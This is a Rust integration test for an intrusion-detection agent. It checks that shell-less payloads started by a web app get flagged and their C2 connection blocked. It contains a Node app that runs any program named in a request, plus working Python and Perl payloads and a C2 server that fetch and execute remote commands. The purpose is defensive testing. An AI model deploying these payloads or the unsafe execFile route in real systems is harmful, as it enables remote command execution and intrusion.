//! A shell is not needed to be caught (issue 25 §3), end to end with a real Node web app: its
//! `execFile` route (no shell) starts a `python3 -c` or `perl -e` payload that connects to a
//! C2 on the test host `DE4`, reads a command and runs it through pipes (`subprocess`,
//! backticks), with no shell anywhere. The command (`id`) below the web server is a `lineage`
//! finding, and the payload's connection to the C2 gets a decision. The benign twin: the same
//! app running helpers a web app runs (`git`, `cat` of its own file, `chmod 644`, a `python3`
//! that connects nowhere) raises nothing.
//!
//! `DE4` is a low-risk test host (`geo` never fires for it): only `lineage` can give it a
//! decision. The tests run one at a time (`serial`); alerts are matched by the pids of the
//! test's own Node server.

mod common;

use std::{
    io::{BufRead, BufReader, Read, Write},
    net::TcpStream,
    os::unix::process::CommandExt,
    process::{Child, Command, Stdio},
    thread,
    time::{Duration, Instant},
};

use common::{
    Agent,
    netns::{DE4, TestNet},
    nft::Table,
    require_root, serial,
};
use serde_json::Value;

const WAIT: Duration = Duration::from_secs(60);

/// A process group the test started, killed on drop.
struct Group(Child);

impl Group {
    /// Start `cmd` and wait for its first line, "ready" and what follows (returned).
    fn spawn(cmd: &mut Command) -> (Group, String) {
        let mut child = cmd.process_group(0).stdout(Stdio::piped()).spawn().unwrap();
        let mut line = String::new();
        BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut line)
            .unwrap();
        let rest = line.trim().strip_prefix("ready").expect("ready").trim();
        (Group(child), rest.to_string())
    }
}

impl Drop for Group {
    fn drop(&mut self) {
        let pgid = nix::unistd::Pid::from_raw(self.0.id() as i32);
        let _ = nix::sys::signal::killpg(pgid, nix::sys::signal::Signal::SIGKILL);
        let _ = self.0.wait();
    }
}

/// The C2 on `DE4:port`: sends `id` to each payload and reads its answer.
fn c2(net: &TestNet, port: u16) -> Group {
    let script = "import socket, sys, threading\n\
        s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n\
        s.bind(('0.0.0.0', int(sys.argv[1]))); s.listen(16)\n\
        print('ready', flush=True)\n\
        def serve(c):\n    try:\n        c.sendall(b'id\\n')\n        while c.recv(4096): pass\n    except OSError: pass\n    c.close()\n\
        while True:\n    c, _ = s.accept(); threading.Thread(target=serve, args=(c,), daemon=True).start()\n";
    Group::spawn(
        Command::new("ip")
            .args(["netns", "exec", net.ns(), "/usr/bin/python3", "-c", script])
            .arg(port.to_string()),
    )
    .0
}

/// A Node app whose `/run?f=&a=` route runs a program with `execFile` (no shell).
fn node_app(dir: &std::path::Path) -> (Group, u16) {
    let app = common::write(
        dir,
        "app.js",
        "const http = require('http'), cp = require('child_process');\n\
         const srv = http.createServer((req, res) => {\n\
           const u = new URL(req.url, 'http://x');\n\
           cp.execFile(u.searchParams.get('f'), JSON.parse(u.searchParams.get('a')), () => {});\n\
           res.end('ok\\n');\n\
         }).listen(0, '127.0.0.1', () => console.log('ready ' + srv.address().port));\n",
    );
    let (g, port) = Group::spawn(Command::new("node").arg(&app));
    (g, port.parse().unwrap())
}

/// Ask the app to run `f` with `args`.
fn run(port: u16, f: &str, args: &[&str]) {
    let enc = |s: &str| -> String {
        s.bytes()
            .map(|b| match b {
                b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'_' | b'.' => {
                    (b as char).to_string()
                }
                _ => format!("%{b:02X}"),
            })
            .collect()
    };
    let a = serde_json::to_string(args).unwrap();
    let mut s = TcpStream::connect(("127.0.0.1", port)).unwrap();
    write!(s, "GET /run?f={}&a={} HTTP/1.0\r\n\r\n", enc(f), enc(&a)).unwrap();
    let _ = s.read_to_string(&mut String::new());
}

fn agent(table: &Table) -> Agent {
    Agent::start_with(
        "",
        &format!(
            "[trust]\nips = [\"198.51.100.0/25\", \"198.51.100.192/26\", \"2001:db8::/32\"]\n\
             [switch]\ncountdown = \"30s\"\n[alerts]\ndedup_window = \"1s\"\n\
             [enforce]\nmode = \"dry-run\"\ntable = \"{}\"\nconnect_guard = false\n",
            table.0
        ),
    )
}

/// `payload` (program and arguments) run by a fresh Node app: `id` below it is a `lineage`
/// alert about the app, and its alert's decision is on the C2.
fn caught(tag: &str, port: u16, payload: &[&str]) {
    let _serial = serial();
    let net = TestNet::new(tag);
    let table = Table::new(tag);
    let _c2 = c2(&net, port);
    let agent = agent(&table);
    let (app, app_port) = node_app(agent.dir.path());
    let node = app.0.id();
    run(app_port, payload[0], &payload[1..]);
    let mut alert = Value::Null;
    let found = wait(|| {
        agent.events("alert").into_iter().find(|a| {
            a["anomaly"] == "lineage"
                && a["comm"] == "id"
                && a["detail"]
                    .as_str()
                    .is_some_and(|d| d.contains(&format!("web server pid {node},")))
        })
    });
    if let Some(a) = found {
        alert = a;
    }
    assert!(
        !alert.is_null(),
        "no lineage alert on id below node {node}:\n{}",
        agent.log()
    );
    let detail = alert["detail"].as_str().unwrap();
    assert!(
        detail.starts_with("reconnaissance or tooling program below a web server: node → "),
        "{alert}"
    );
    assert_eq!(alert["severity"], "critical", "{alert}");
    let id = alert["id"].as_str().unwrap().to_string();
    let decision = wait(|| {
        agent
            .events("decision")
            .into_iter()
            .find(|d| d["id"] == id.as_str() && d["target_ip"] == DE4)
    });
    assert!(
        decision.is_some(),
        "no decision on the C2 {DE4} for {alert}: {:?}\n{}",
        agent.events("decision"),
        agent.log()
    );
}

fn wait<T>(mut f: impl FnMut() -> Option<T>) -> Option<T> {
    let deadline = Instant::now() + WAIT;
    while Instant::now() < deadline {
        if let Some(t) = f() {
            return Some(t);
        }
        thread::sleep(Duration::from_millis(200));
    }
    None
}

#[test]
fn python3_c_payload_without_a_shell_is_caught_with_a_decision_on_its_c2() {
    if !require_root("python3_c_payload_without_a_shell_is_caught_with_a_decision_on_its_c2") {
        return;
    }
    let code = format!(
        "import socket, subprocess, time\n\
         s = socket.create_connection(('{DE4}', 4461), timeout=10)\n\
         cmd = s.makefile().readline().split()\n\
         p = subprocess.run(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE)\n\
         s.sendall(p.stdout + p.stderr)\n\
         time.sleep(5)\n"
    );
    caught("slp", 4461, &["/usr/bin/python3", "-c", &code]);
}

#[test]
fn perl_e_payload_without_a_shell_is_caught_with_a_decision_on_its_c2() {
    if !require_root("perl_e_payload_without_a_shell_is_caught_with_a_decision_on_its_c2") {
        return;
    }
    // Backticks without shell metacharacters run the command directly, no `sh -c`.
    let code = format!(
        "use IO::Socket::INET; \
         my $s = IO::Socket::INET->new(PeerAddr => '{DE4}', PeerPort => 4462) or die; \
         my $c = <$s>; chomp $c; my $o = `$c`; print $s $o; sleep 5;"
    );
    caught("slr", 4462, &["/usr/bin/perl", "-e", &code]);
}

#[test]
fn a_web_app_running_its_helpers_raises_nothing() {
    if !require_root("a_web_app_running_its_helpers_raises_nothing") {
        return;
    }
    let _serial = serial();
    let table = Table::new("slb");
    let agent = agent(&table);
    let dir = agent.dir.path();
    let (app, port) = node_app(dir);
    let node = app.0.id();
    let asset = common::write(dir, "upload.png", "not really a png\n");
    let asset = asset.to_str().unwrap();
    let helpers: [&[&str]; 5] = [
        &["/usr/bin/git", "--version"],
        &["/usr/bin/cat", asset],
        &["/usr/bin/chmod", "644", asset],
        &["/usr/bin/python3", "-c", "print(1 + 1)"],
        &["/usr/bin/perl", "-e", "print 2"],
    ];
    for h in helpers {
        run(port, h[0], &h[1..]);
    }
    // Every helper ran (the agent saw its exec below the app) ...
    for h in helpers {
        let ran = wait(|| {
            agent
                .events("exec")
                .into_iter()
                .find(|e| e["ppid"] == node && e["filename"] == h[0])
        });
        assert!(ran.is_some(), "{} never ran below node {node}", h[0]);
    }
    // ... and raised nothing about the app.
    thread::sleep(Duration::from_secs(2));
    let ours: Vec<Value> = agent
        .events("alert")
        .into_iter()
        .filter(|a| {
            a["pid"] == node
                || a["detail"]
                    .as_str()
                    .is_some_and(|d| d.contains(&format!("pid {node}")))
        })
        .collect();
    assert!(ours.is_empty(), "{ours:?}");
}
